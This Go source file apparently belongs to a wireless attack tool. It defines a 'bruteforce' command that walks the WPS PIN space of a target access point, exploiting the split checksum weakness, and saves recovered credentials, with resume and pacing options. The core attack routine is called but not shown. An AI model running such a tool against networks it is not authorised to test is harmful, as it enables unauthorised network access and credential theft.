package main

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"time"

	"github.com/fatih/color"
	"github.com/spf13/cobra"
	"golang.org/x/sys/unix"

	"github.com/raisul587/osup/internal/session"
)

func newBruteforceCmd() *cobra.Command {
	var (
		iface   string
		drivers string
		delay   time.Duration
		resume  bool
		save    bool
	)

	cmd := &cobra.Command{
		Use:   "bruteforce <bssid>",
		Short: "walk the WPS PIN space online, exploiting the split first-/second-half checksum weakness",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			bssid := args[0]

			st, err := newStore()
			if err != nil {
				return err
			}

			sess, err := session.New(session.Options{
				Interface:  iface,
				Drivers:    drivers,
				SaveResult: save,
				PrintDebug: verbose,
				Delay:      delay,
			}, st, slog)
			if err != nil {
				return err
			}
			defer sess.Close()

			sig := make(chan os.Signal, 1)
			signal.Notify(sig, unix.SIGINT, unix.SIGTERM)
			go func() {
				<-sig
				slog.Warn("interrupt received, saving progress and exiting")
				sess.Interrupt()
			}()

			start := ""
			if resume {
				if mask, ok, err := st.LoadCursor(bssid); err == nil && ok {
					confirmed, err := session.NewStdinPrompter().Confirm(
						fmt.Sprintf("restore previous session for %s?", bssid))
					if err != nil {
						return err
					}
					if confirmed {
						start = mask
					}
				}
			}

			pin, ok, err := sess.SmartBruteforce(context.Background(), bssid, start)
			if err != nil {
				return err
			}
			if !ok {
				if sess.Interrupted() {
					return fmt.Errorf("bruteforce: interrupted, progress saved for --resume")
				}
				return fmt.Errorf("bruteforce: PIN space exhausted without a match")
			}

			color.Green("recovered WPS PIN: %s", pin)
			return nil
		},
	}

	cmd.Flags().StringVarP(&iface, "interface", "i", "wlan0", "wireless interface to drive wpa_supplicant on")
	cmd.Flags().StringVarP(&drivers, "drivers", "d", "", "wpa_supplicant -D driver list override")
	cmd.Flags().DurationVar(&delay, "delay", 0, "minimum delay between attempts (0 disables pacing)")
	cmd.Flags().BoolVar(&resume, "resume", true, "resume from a previously persisted cursor, if any")
	cmd.Flags().BoolVarP(&save, "save", "s", true, "append recovered credentials to the reports directory")
	return cmd
}
